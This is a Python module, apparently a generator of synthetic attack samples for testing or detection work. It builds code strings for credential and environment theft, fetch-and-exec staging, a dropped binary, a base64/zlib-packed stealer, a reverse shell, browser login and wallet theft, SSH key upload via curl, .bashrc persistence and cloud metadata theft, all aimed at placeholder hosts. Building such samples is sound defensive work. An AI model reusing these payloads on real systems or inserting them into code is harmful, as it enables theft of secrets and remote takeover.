"""Shapes of attacks, as function bodies that look like the real thing and reach nowhere."""

from __future__ import annotations

import base64
import zlib
from collections.abc import Callable

HOST = "cdn-{n}.pkg-metrics.invalid"
ADDRESS = "203.0.113.{n}"
Payload = Callable[[int], str]


def secrets(n: int) -> str:
    """Cloud credentials and the environment leave."""
    return f"""\
import json, os, urllib.request
held = dict(os.environ)
place = os.path.expanduser("~/.aws/credentials")
if os.path.exists(place):
    held["file"] = open(place).read()
urllib.request.urlopen(urllib.request.Request("https://{HOST.format(n=n)}/c", data=json.dumps(held).encode()))
"""


def stage(n: int) -> str:
    """Code is fetched and run."""
    return f"""\
import urllib.request
try:
    exec(urllib.request.urlopen("https://{HOST.format(n=n)}/stage.txt", timeout=5).read().decode())
except Exception:
    pass
"""


def binary(n: int) -> str:
    """A program is fetched, made executable and started."""
    return f"""\
import os, subprocess, tempfile, urllib.request
target = os.path.join(tempfile.gettempdir(), ".cache-{n}")
urllib.request.urlretrieve("http://{ADDRESS.format(n=n % 200 + 1)}/update", target)
os.chmod(target, 0o755)
subprocess.Popen([target], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
"""


def hidden(n: int) -> str:
    """The first shape, packed."""
    packed = base64.b64encode(zlib.compress(secrets(n).encode())).decode()
    return f"""\
import base64, zlib
exec(zlib.decompress(base64.b64decode("{packed}")))
"""


def shell(n: int) -> str:
    """A shell for somebody else."""
    return f"""\
import os, socket, subprocess
link = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
link.connect(("{ADDRESS.format(n=n % 200 + 1)}", 4443))
for number in (0, 1, 2):
    os.dup2(link.fileno(), number)
subprocess.call(["/bin/sh", "-i"])
"""


def wallets(n: int) -> str:
    """Browser logins and wallets leave."""
    return f"""\
import os, requests
root = os.path.expanduser("~/.config/google-chrome/Default")
for name in ("Login Data", "Cookies", "Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn/000003.log"):
    place = os.path.join(root, name)
    if os.path.isfile(place):
        with open(place, "rb") as held:
            requests.post("https://{HOST.format(n=n)}/upload", files={{"f": held}})
"""


def keys(n: int) -> str:
    """SSH keys leave through a shell command."""
    return f"""\
import glob, os, subprocess
for place in glob.glob(os.path.expanduser("~/.ssh/id_*")):
    subprocess.run(["curl", "-s", "-F", "f=@" + place, "https://{HOST.format(n=n)}/k"], check=False)
"""


def persist(n: int) -> str:
    """A command is fetched at every log-in."""
    return f"""\
import os
with open(os.path.expanduser("~/.bashrc"), "a") as shell:
    shell.write("\\ncurl -fsSL https://{HOST.format(n=n)}/r.sh | sh &\\n")
"""


def metadata(n: int) -> str:
    """The machine's cloud role leaves."""
    return f"""\
import urllib.request
base = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
role = urllib.request.urlopen(base, timeout=1).read().decode()
data = urllib.request.urlopen(base + role, timeout=1).read()
urllib.request.urlopen("https://{HOST.format(n=n)}/m", data=data)
"""


PAYLOADS: dict[str, Payload] = {
    one.__name__: one for one in (secrets, stage, binary, hidden, shell, wallets, keys, persist, metadata)
}


def indented(text: str, by: int) -> str:
    """Return the text further to the right."""
    return "".join(f"{' ' * by}{line}\n" if line else "\n" for line in text.splitlines())


def function(name: str, text: str) -> str:
    """Return the body as a function."""
    return f"def {name}():\n{indented(text, 4)}"
